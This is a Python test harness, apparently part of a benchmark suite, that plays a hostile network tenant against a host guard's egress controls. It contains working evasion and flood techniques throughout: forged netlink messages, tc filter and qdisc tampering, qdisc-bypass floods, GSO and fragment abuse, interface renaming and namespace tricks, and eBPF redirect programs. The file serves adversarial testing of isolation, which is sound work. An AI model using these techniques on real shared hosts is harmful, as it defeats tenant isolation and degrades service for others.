"""A tenant with all rights in its own network namespace tries to get more than it is granted. Standard library only.

`benches/hostile_tenant.py` runs this in a user namespace that owns the tenant's network namespace:
`hostile.py ATTACK SECONDS SOURCE-MAC TARGET-MAC SOURCE TARGET`.
"""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import multiprocessing
import os
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

INTERFACE, TUNNEL = "eth0", "vxlan0"
# What it calls the vif's interface, and a veth pair of its own.
HIDDEN, PAIR = "other", ("mine0", "mine1")
# The exit code if the kernel does not let it try.
CANNOT = 77
AROUND = """
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
SEC("xdp") int across(struct xdp_md *frame) { return bpf_redirect(TARGET, 0); }
SEC("classifier") int to_peer(struct __sk_buff *skb) { return bpf_redirect_peer(TARGET, 0); }
char LICENSE[] SEC("license") = "GPL";
"""
IPV4, VLAN, STACKED = 0x0800, 0x8100, 0x88A8
UDP, TCP, GRE, IPIP = 17, 6, 47, 4
SOL_PACKET, PACKET_VNET_HDR, PACKET_QDISC_BYPASS = 263, 15, 20
# struct virtio_net_hdr: a TCP packet over IPv4 whose check sum is to be made.
NEEDS_CHECKSUM, GSO_TCPV4 = 1, 1
DELETE_FILTER, GET_FILTER, NEW_FILTER, DONE, DUMP, REQUEST = 45, 46, 44, 3, 0x300, 0x1
EGRESS, CLONE_NEWNET = 0xFFFFFFF3, 0x40000000
LARGEST = 60_000


class Tenant:
    """Where it sends: all frames go to its own sink."""

    def __init__(self, source_mac: str, target_mac: str, source: str, target: str) -> None:
        self.macs = bytes.fromhex((target_mac + source_mac).replace(":", ""))
        self.source, self.target = source, target
        self.addresses = socket.inet_aton(source) + socket.inet_aton(target)

    def frame(self, packet: bytes, *tags: tuple[int, int]) -> bytes:
        tagged = b"".join(struct.pack("!HH", kind, number) for kind, number in tags)
        return self.macs + tagged + struct.pack("!H", IPV4) + packet

    def ipv4(self, payload: bytes, protocol: int = UDP, place: int = 0, number: int = 0) -> bytes:
        """With its check sum, for a receiver might look. place: of a fragment, its flags and offset."""
        begin = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), number & 0xFFFF, place, 64, protocol, 0)
        header = begin + self.addresses
        total = sum(struct.unpack("!10H", header))
        folded = (total & 0xFFFF) + (total >> 16)
        check = ~(folded + (folded >> 16)) & 0xFFFF
        return header[:10] + struct.pack("!H", check) + header[12:] + payload

    def datagram(self, payload: bytes, port: int = 9) -> bytes:
        return self.ipv4(struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload)


def packet_socket(*options: int, interface: str = INTERFACE) -> socket.socket:
    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    for option in options:
        opened.setsockopt(SOL_PACKET, option, 1)
    opened.bind((interface, 0))
    return opened


def send_all(out: socket.socket, frames: Iterator[bytes], until: float) -> None:
    """As fast as they are taken."""
    while time.monotonic() < until:
        for frame in itertools.islice(frames, 32):
            # What is dropped, or finds no room, is an error for its sender.
            with contextlib.suppress(OSError):
                out.send(frame)


def netlink(kind: int, flags: int, body: bytes, number: int = 1) -> bytes:
    return struct.pack("=IHHII", 16 + len(body), kind, flags, number, 0) + body


def tcmsg(info: int = 0) -> bytes:
    return struct.pack("=BxxxiIII", 0, socket.if_nametoindex(INTERFACE), 0, EGRESS, info)


def delete_filters(until: float) -> None:
    """All on the way out, as often as the kernel lets it."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as out:
        request = netlink(DELETE_FILTER, REQUEST, tcmsg())
        out.connect((0, 0))
        while time.monotonic() < until:
            out.send(request)


def forge(until: float) -> None:
    """Tells every netlink socket here that the hooks are there still, with many numbers, and removes them."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as out:
        out.bind((0, 0))
        out.sendto(netlink(GET_FILTER, REQUEST | DUMP, tcmsg()), (0, 0))
        hooks = hooks_in(out.recv(1 << 16))
        own = out.getsockname()[0]
        for first in itertools.cycle(range(0, 4000, 100)):
            if time.monotonic() > until:
                return
            out.sendto(netlink(DELETE_FILTER, REQUEST, tcmsg()), (0, 0))
            numbers = range(first, first + 100)
            forged = b"".join(netlink(NEW_FILTER, 2, hook, n) for n in numbers for hook in hooks)
            forged += b"".join(netlink(DONE, 2, bytes(4), n) for n in numbers)
            for port in ports() - {own}:
                # One that is not connected to the kernel takes it.
                with contextlib.suppress(OSError):
                    out.sendto(forged, (port, 0))


def hooks_in(answer: bytes) -> list[bytes]:
    bodies = []
    while len(answer) >= 16:
        length, kind = struct.unpack_from("=IH", answer)
        if kind == NEW_FILTER:
            bodies.append(answer[16:length])
        answer = answer[(length + 3) & ~3 :]
    return bodies


def ports() -> set[int]:
    """Of all sockets of rtnetlink here."""
    lines = [line.split() for line in Path("/proc/self/net/netlink").read_text().splitlines()[1:]]
    return {int(fields[2]) for fields in lines if fields[1] == "0"} - {0}


def tc(*arguments: str) -> None:
    subprocess.run(["tc", *arguments], stderr=subprocess.DEVNULL, check=False)


def pass_all() -> None:
    """Its own filter ahead of the guard's hook, which takes every packet. Unlike `matchall`, kernels have `u32`."""
    place = ("dev", INTERFACE, "egress", "protocol", "all", "prio", "1", "handle", "800::800")
    tc("filter", "add", *place, "u32", "match", "u32", "0", "0", "classid", "1:1")


def own_qdiscs(until: float) -> None:
    """Its own queue in place of the guard's, and its own filter ahead of the guard's hook, again and again."""
    while time.monotonic() < until:
        tc("qdisc", "replace", "dev", INTERFACE, "root", "pfifo", "limit", "10000")
        pass_all()
        time.sleep(0.05)
    tc("filter", "del", "dev", INTERFACE, "egress", "prio", "1")
    tc("qdisc", "del", "dev", INTERFACE, "root")


def full_frames(tenant: Tenant) -> Iterator[bytes]:
    return itertools.repeat(tenant.frame(tenant.datagram(bytes(1472))))


def flood(tenant: Tenant, until: float, *options: int, interface: str = INTERFACE) -> None:
    with packet_socket(*options, interface=interface) as out:
        send_all(out, full_frames(tenant), until)


def with_flood(act: Callable[[float], None], tenant: Tenant, until: float) -> None:
    beside = multiprocessing.Process(target=flood, args=(tenant, until))
    beside.start()
    act(until)
    beside.join()


def around_queues(tenant: Tenant, until: float) -> None:
    """By its own queues and filters, and with frames that pass no queue and no hook."""
    beside = multiprocessing.Process(target=flood, args=(tenant, until, PACKET_QDISC_BYPASS))
    beside.start()
    with_flood(own_qdiscs, tenant, until)
    beside.join()


def segments(tenant: Tenant, until: float, bytes_: int, size: int, interface: str = INTERFACE) -> None:
    """TCP packets of so many bytes that are to be cut into segments of this size."""
    tcp = struct.pack("!HHIIBBHHH", 40000, 9, 1, 0, 5 << 4, 0x10, 65535, 0, 0)
    packet = tenant.frame(tenant.ipv4(tcp + bytes(bytes_), TCP))
    header = struct.pack("=BBHHHH", NEEDS_CHECKSUM, GSO_TCPV4, 14 + 20 + 20, size, 14 + 20, 16)
    with packet_socket(PACKET_VNET_HDR, interface=interface) as out:
        send_all(out, itertools.repeat(header + packet), until)


def tiny_segments(tenant: Tenant, until: float) -> None:
    """Of one byte."""
    segments(tenant, until, 4000, 1)


def tunnel_segments(tenant: Tenant, until: float) -> None:
    """Small ones. Each repeats the headers of a tunnel, and those inside."""
    ends = ["local", tenant.source, "remote", tenant.target, "dstport", "4789", "dev", INTERFACE]
    subprocess.run(["ip", "link", "add", TUNNEL, "type", "vxlan", "id", "7", *ends], check=True)
    subprocess.run(["ip", "link", "set", TUNNEL, "up"], check=True)
    segments(tenant, until, 20_000, 100, TUNNEL)
    subprocess.run(["ip", "link", "del", TUNNEL], check=True)


def fragments(tenant: Tenant, until: float) -> None:
    """First fragments that nothing follows, and later ones that nothing came before."""
    head = struct.pack("!HHHH", 40000, 9, 1480, 0)

    def frames() -> Iterator[bytes]:
        for number in itertools.count():
            yield tenant.frame(tenant.ipv4(head + bytes(64), UDP, 0x2000, number))
            yield tenant.frame(tenant.ipv4(bytes(1400), UDP, 9, number + 7))

    with packet_socket() as out:
        send_all(out, frames(), until)


def framing(tenant: Tenant, until: float) -> None:
    """The same data behind VLAN tags, stacked tags and in tunnels."""
    inner = tenant.datagram(bytes(1400))
    kinds = [
        tenant.frame(inner, (VLAN, 5)),
        tenant.frame(inner, (STACKED, 5), (VLAN, 6)),
        tenant.frame(inner, (VLAN, 1), (VLAN, 2), (VLAN, 3)),
        tenant.frame(tenant.ipv4(struct.pack("!HH", 0, IPV4) + inner, GRE)),
        tenant.frame(tenant.ipv4(inner, IPIP)),
        tenant.frame(tenant.datagram(bytes.fromhex("0800000000000500") + tenant.frame(inner), 4789)),
    ]
    with packet_socket() as out:
        send_all(out, itertools.cycle(kinds), until)


def at_once(*commands: str) -> None:
    """Commands of `ip` in one process, too fast for the guard to look in between."""
    subprocess.run(["ip", "-batch", "-"], input="\n".join(commands), text=True, check=True)


def renaming(name: str, to: str) -> list[str]:
    return [f"link set {name} down", f"link set {name} name {to}", f"link set {to} up"]


def renamed(tenant: Tenant, until: float) -> None:
    at_once(*renaming(INTERFACE, HIDDEN))
    flood(tenant, until, interface=HIDDEN)
    at_once(*renaming(HIDDEN, INTERFACE))


def decoy(tenant: Tenant, until: float) -> None:
    """Another interface with the name of the vif's, whose hook is then deleted."""
    at_once(*renaming(INTERFACE, HIDDEN), f"link add {INTERFACE} type bridge", f"link set {INTERFACE} up")
    tc("filter", "del", "dev", HIDDEN, "egress")
    flood(tenant, until, interface=HIDDEN)
    at_once(f"link del {INTERFACE}", *renaming(HIDDEN, INTERFACE))


def own_pair() -> list[str]:
    return [f"link add {PAIR[0]} type veth peer name {PAIR[1]}", *(f"link set {end} up" for end in PAIR)]


def swapped(tenant: Tenant, until: float) -> None:
    """The names of the vif's interface and of one of its own."""
    names = (INTERFACE, HIDDEN), (PAIR[0], INTERFACE), (HIDDEN, PAIR[0])
    at_once(*own_pair(), *(command for name, to in names for command in renaming(name, to)))
    tc("filter", "del", "dev", PAIR[0], "egress")
    flood(tenant, until, interface=PAIR[0])
    at_once(f"link del {INTERFACE}", *renaming(PAIR[0], INTERFACE))


def another_namespace(tenant: Tenant, until: float) -> None:
    """There for half of the time, and back."""
    command = ["unshare", "--net", "sh", "-c", "echo ready; exec sleep infinity"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as holder:
        if holder.stdout is None or holder.stdout.readline() != "ready\n":
            raise RuntimeError("no namespace of its own")
        at_once(f"link set {INTERFACE} netns {holder.pid}")
        there = multiprocessing.Process(
            target=in_namespace_of, args=(holder.pid, tenant, (time.monotonic() + until) / 2)
        )
        there.start()
        there.join()
        holder.kill()
    at_once(f"link set {INTERFACE} up")
    flood(tenant, until)


def in_namespace_of(pid: int, tenant: Tenant, until: float) -> None:
    home = os.getppid()
    with Path(f"/proc/{pid}/ns/net").open() as namespace:
        if ctypes.CDLL(None).setns(namespace.fileno(), CLONE_NEWNET):
            raise RuntimeError("the namespace cannot be entered")
    at_once(f"link set {INTERFACE} up")
    flood(tenant, until)
    at_once(f"link set {INTERFACE} netns {home}")


def own_filter(tenant: Tenant, until: float) -> None:
    """Ahead of the guard's."""
    pass_all()
    flood(tenant, until)
    tc("filter", "del", "dev", INTERFACE, "egress", "prio", "1")


def around(tenant: Tenant, until: float, *attach: str) -> None:
    """From a veth pair of its own, whose other end hands each packet on by eBPF. attach: the command to attach it."""
    at_once(*own_pair())
    with tempfile.TemporaryDirectory() as folder:
        source, built = Path(folder, "around.c"), Path(folder, "around.o")
        source.write_text(AROUND.replace("TARGET", str(socket.if_nametoindex(INTERFACE))))
        include = f"-I/usr/include/{os.uname().machine}-linux-gnu"
        clang = ["clang", "-O2", "-g", "-target", "bpf", include, "-c", str(source), "-o", str(built)]
        try:
            subprocess.run(clang, check=True)
            subprocess.run([word if word != "OBJECT" else str(built) for word in attach], check=True)
        except (OSError, subprocess.CalledProcessError):
            at_once(f"link del {PAIR[0]}")
            sys.exit(CANNOT)
    flood(tenant, until, interface=PAIR[0])
    at_once(f"link del {PAIR[0]}")


def redirect_peer(tenant: Tenant, until: float) -> None:
    hook = f"tc qdisc add dev {PAIR[1]} clsact && tc filter add dev {PAIR[1]} ingress bpf da obj $0 sec classifier"
    around(tenant, until, "sh", "-c", hook, "OBJECT")


def xdp(tenant: Tenant, until: float) -> None:
    around(tenant, until, "ip", "link", "set", PAIR[1], "xdpgeneric", "obj", "OBJECT", "sec", "xdp")


ATTACKS: Mapping[str, Callable[[Tenant, float], None]] = {
    "forged answers": lambda tenant, until: with_flood(forge, tenant, until),
    "filter deletion": lambda tenant, until: with_flood(delete_filters, tenant, until),
    "own queues": around_queues,
    "tiny segments": tiny_segments,
    "segments in a tunnel": tunnel_segments,
    "fragments": fragments,
    "framing": framing,
    "rename": renamed,
    "decoy": decoy,
    "swap": swapped,
    "another namespace": another_namespace,
    "own filter": own_filter,
    "frames past queues": lambda tenant, until: flood(tenant, until, PACKET_QDISC_BYPASS),
    "redirect to the peer": redirect_peer,
    "XDP": xdp,
}


def main() -> None:
    attack, seconds, *where = sys.argv[1:]
    multiprocessing.set_start_method("fork")
    ATTACKS[attack](Tenant(*where), time.monotonic() + float(seconds))


if __name__ == "__main__":
    main()
